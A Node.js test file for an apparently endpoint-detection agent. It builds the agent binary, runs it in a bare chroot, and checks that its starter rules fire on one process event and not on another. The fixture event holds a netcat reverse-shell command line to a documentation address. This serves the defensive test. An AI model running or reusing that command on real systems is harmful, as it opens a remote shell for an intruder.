import assert from 'node:assert/strict'
import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import process from 'node:process'
import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { after, before, test } from 'node:test'
import { setTimeout } from 'node:timers/promises'
import type { Beacon } from '@firebreak/api'
import { buildAgent } from './agent-build.ts'
import { compileStarter } from './install/starter.ts'
import { openScreen } from './screen.ts'

const folder = await mkdtemp(join(tmpdir(), 'firebreak-build-'))
after(() => rm(folder, { recursive: true, force: true }))

const EVENT = {
  category: 'process_creation',
  product: 'linux',
  timeMs: 1,
  fields: { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.1 4444', ParentImage: '/bin/sh' },
}
const SETTINGS = {
  serverUrl: 'http://127.0.0.1:9',
  hostName: 'bare',
  ring: 'broad',
  pack: 'linux-baseline',
  beaconIntervalMs: 1_000,
  pollIntervalMs: 1_000,
  trialMs: 1_000,
}
interface AgentStatus {
  readonly sensor: object | null
  readonly report: { readonly beacon: Beacon }
}
interface Evaluated {
  readonly kind: string
  readonly verdicts: readonly { readonly firedRuleIds: readonly string[] }[]
}
const POLL_MS = 50
const IS_ROOT = process.geteuid?.() === 0

/** A root with the executable, what it is linked to, and nothing else: no Node.js, no shell, no temporary folder. */
function bareRoot(file: string): string {
  const root = join(folder, 'root')
  const libraries = execFileSync('ldd', [file], { encoding: 'utf8' }).matchAll(/\/[^ )]+/g)
  for (const [library] of libraries) {
    mkdirSync(join(root, dirname(library)), { recursive: true })
    copyFileSync(library, join(root, library))
  }
  for (const name of ['proc', 'dev']) mkdirSync(join(root, name), { recursive: true })
  writeFileSync(join(root, 'dev', 'null'), '')
  return root
}

const file = join(folder, 'agent')
let root = folder

/** How to run the executable: for root in a root of its own. It has an environment that asks Node.js for something else. */
function command(...args: readonly string[]): Parameters<typeof spawn> {
  const env = { PATH: IS_ROOT ? '/usr/bin:/bin' : '', NODE_OPTIONS: '--inspect=0' }
  if (!IS_ROOT) return [file, args, { cwd: root, env }]
  const script = 'mount -t proc proc "$0/proc" && mount --bind /dev/null "$0/dev/null" && cd "$0" && exec "$@"'
  const chroot = ['/usr/sbin/chroot', '.', '/firebreak-agent']
  return ['unshare', ['--mount', 'sh', '-c', script, root, ...chroot, ...args], { cwd: root, env }]
}

before(async () => {
  await buildAgent(file, openScreen(true))
  if (!IS_ROOT) return
  root = bareRoot(file)
  copyFileSync(file, join(root, 'firebreak-agent'))
})

test('the executable runs its confined engine where there is no Node.js', { timeout: 120_000 }, async (t) => {
  if (!IS_ROOT) t.diagnostic('not root: it runs beside this Node.js, with an empty environment')
  writeFileSync(join(root, 'image.fbi'), (await compileStarter())['starter.fbi'])
  writeFileSync(join(root, 'events.json'), JSON.stringify([EVENT, { ...EVENT, fields: { Image: '/bin/true' } }]))
  const child = spawn(...command('evaluate', '--image', 'image.fbi', '--events', 'events.json'))
  const answer = JSON.parse(await text(child.stdout ?? Readable.from(''))) as Evaluated
  assert.equal(answer.kind, 'ran')
  assert.deepEqual(
    answer.verdicts.map(({ firedRuleIds }) => firedRuleIds.length > 0),
    [true, false],
  )
})

test(
  'with nothing but its settings, the executable watches and judges by the starter image in it',
  { timeout: 120_000 },
  async () => {
    const data = join(root, 'data')
    mkdirSync(data, { mode: 0o700 })
    writeFileSync(join(data, 'agent.json'), JSON.stringify(SETTINGS))
    const child = spawn(...command('service', '--data', 'data', '--end-with-parent'))
    const exited = once(child, 'exit')
    while (child.exitCode === null && !watchesByStarter(join(data, 'status.json'))) await setTimeout(POLL_MS)
    child.stdin?.end()
    assert.deepEqual(await exited, [0, null])
  },
)

/** What `agent status` would show. */
function watchesByStarter(status: string): boolean {
  if (!existsSync(status)) return false
  const { sensor, report } = JSON.parse(readFileSync(status, 'utf8')) as AgentStatus
  return sensor !== null && report.beacon.running?.slot === 'starter'
}
